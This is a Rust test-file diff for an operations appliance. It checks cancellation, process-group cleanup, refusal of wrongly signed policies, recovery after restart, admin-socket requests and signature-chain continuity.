+    assert_eq!(r.outcome, Outcome::Cancelled, "{r:?}");
+    assert_eq!(fx.execution(&r).status, ExecutionStatus::Cancelled);
+    assert_eq!(fx.control.ops.record("op_long").unwrap().unwrap().state, OpState::Cancelled);
+    assert_eq!(fx.audited("operation.cancelled").len(), 1);
+    let output = String::from_utf8(fx.control.ops.open_output("op_long").unwrap()).unwrap();
+    assert_eq!(output, "started\n");
+    for _ in 0..50 {
+        if live_members(pgid) == 0 {
+            break;
+        }
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+    assert_eq!(live_members(pgid), 0, "the whole process group is gone");
+}
+
+#[tokio::test]
+async fn a_new_policy_without_the_phase_cancels_running_operations() {
+    let fx = Fx::new(ALL_PHASES);
+    let script = "sleep 60\n";
+    let stmt = fx.statement("op_p", MANIFEST, script, vars("api"));
+    let handle = match fx.exec.handle(fx.instruction(&stmt, MANIFEST, script, &fx.grant(&stmt))).await {
+        Handled::Started(h) => h,
+        other => panic!("{other:?}"),
+    };
+    while fx.control.running_group("op_p").is_none() {
+        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
+    }
+    let next = Envelope::new(POLICY_PAYLOAD_TYPE, b"version = 1\nserial = 2\nphases = [\"observe\"]\n".to_vec())
+        .sign(&customer(1))
+        .to_json();
+    let status = fx.control.load_policy(next.as_bytes()).unwrap();
+    assert_eq!(status.effective, vec![Phase::Observe]);
+    let r = tokio::time::timeout(std::time::Duration::from_secs(10), handle).await.unwrap().unwrap();
+    assert_eq!(r.outcome, Outcome::Cancelled);
+    // A policy that does not verify is refused and the one in force stays.
+    let forged = Envelope::new(POLICY_PAYLOAD_TYPE, ALL_PHASES.replace("serial = 1", "serial = 3").into_bytes())
+        .sign(&customer(9))
+        .to_json();
+    assert!(fx.control.load_policy(forged.as_bytes()).is_err());
+    assert_eq!(fx.control.status().policy_serial, Some(2));
+}
+
+#[tokio::test]
+async fn an_operation_interrupted_by_a_stop_is_recorded_cancelled_at_restart() {
+    let mut fx = Fx::new(ALL_PHASES);
+    let script = "sleep 60\n";
+    let stmt = fx.statement("op_i", MANIFEST, script, vars("api"));
+    let handle = match fx.exec.handle(fx.instruction(&stmt, MANIFEST, script, &fx.grant(&stmt))).await {
+        Handled::Started(h) => h,
+        other => panic!("{other:?}"),
+    };
+    let pgid = loop {
+        if let Some(g) = fx.control.running_group("op_i") {
+            break g;
+        }
+        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
+    };
+    // The appliance stops: its tasks are dropped before they record anything, and what it
+    // runs is killed on the way out.
+    handle.abort();
+    assert!(handle.await.unwrap_err().is_cancelled());
+    let old = fx.control.clone();
+    assert!(live_members(pgid) >= 1, "dropping the task does not stop the process");
+    old.kill_all_running();
+    for _ in 0..100 {
+        if live_members(pgid) == 0 {
+            break;
+        }
+        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
+    }
+    assert_eq!(live_members(pgid), 0);
+    fx.restart();
+    assert_eq!(fx.exec.recover_interrupted().unwrap(), 1);
+    let record = fx.control.ops.record("op_i").unwrap().unwrap();
+    assert_eq!(record.state, OpState::Cancelled);
+    assert_eq!(fx.run(&stmt, "").await.outcome, Outcome::Cancelled);
+    assert_eq!(fx.audited("operation.interrupted").len(), 1);
+}
+
+#[tokio::test]
+async fn admin_socket_serves_operations_output_release_and_pre_approvals() {
+    use crate::admin::{Request, bind, call, call_value, read_output, serve};
+    let fx = Fx::new(ALL_PHASES);
+    let stmt = fx.simple("op_1", "api");
+    fx.run(&stmt, &fx.grant(&stmt)).await;
+    let socket = fx.dir.path().join(crate::admin::SOCKET_FILE);
+    let server = tokio::spawn(serve(fx.control.clone(), bind(&socket).unwrap()));
+
+    let list = call_value(&socket, &Request::Operations).await.unwrap();
+    assert_eq!(list[0]["id"], "op_1");
+    assert_eq!(list[0]["state"], "executed");
+    assert_eq!(list[0]["release"], serde_json::Value::Null);
+    let (bytes, reply) = read_output(&socket, "op_1").await.unwrap();
+    assert_eq!(bytes, fx.control.ops.open_output("op_1").unwrap());
+    assert_eq!(reply["output_size"], bytes.len());
+    assert_eq!(fx.audited("operation.output_read").len(), 1);
+    let manifest = call_value(&socket, &Request::Manifest { id: "op_1".into() }).await.unwrap();
+    assert_eq!(manifest["request_id"], "op_1");
+    assert!(call_value(&socket, &Request::Manifest { id: "../x".into() }).await.is_err());
+
+    let envelope: serde_json::Value =
+        serde_json::from_slice(&release_envelope(&fx, "op_1", ReleaseDecision::Release, |_| {})).unwrap();
+    let released = call_value(&socket, &Request::Release { envelope }).await.unwrap();
+    assert_eq!(released["release"], "release");
+
+    let envelope: serde_json::Value = serde_json::from_slice(&fx.pre_approval(|_| {})).unwrap();
+    let added = call_value(&socket, &Request::PreApprovalAdd { envelope }).await.unwrap();
+    assert_eq!((added["id"].as_str(), added["runs_used"].as_u64()), (Some("routine"), Some(0)));
+    call_value(&socket, &Request::PreApprovalRevoke { id: "routine".into() }).await.unwrap();
+    let list = call_value(&socket, &Request::PreApprovals).await.unwrap();
+    assert_eq!(list[0]["revoked"], true);
+
+    // The phase commands keep their typed client.
+    let status = call(&socket, &Request::Phase { phase: Phase::Deploy, enabled: false }).await.unwrap();
+    assert_eq!(status.disabled, vec![Phase::Deploy]);
+    server.abort();
+}
+
+#[tokio::test]
+async fn an_execution_signed_just_before_a_stop_is_completed_without_a_chain_gap() {
+    let mut fx = Fx::new(ALL_PHASES);
+    let stmt = fx.simple("op_1", "api");
+    let r = fx.run(&stmt, &fx.grant(&stmt)).await;
+    // The stop came after the execution was signed and in the manifest, before it was recorded.
+    fx.control
+        .ops
+        .update_record("op_1", |r| {
+            r.state = OpState::Running;
+            r.result = None;
+            Ok(())
+        })
+        .unwrap();
+    fx.control.ops.acknowledge("op_1", false).unwrap();
+    let head = fx.control.ops.chain_head().unwrap();
+    fx.restart();
+    assert_eq!(fx.exec.recover_interrupted().unwrap(), 1);
+    assert_eq!(fx.control.ops.chain_head().unwrap(), head, "nothing was signed again");
+    assert_eq!(fx.run(&stmt, "").await, r);
+    assert_eq!(fx.control.ops.pending().unwrap().len(), 1, "the result is queued again");
+}
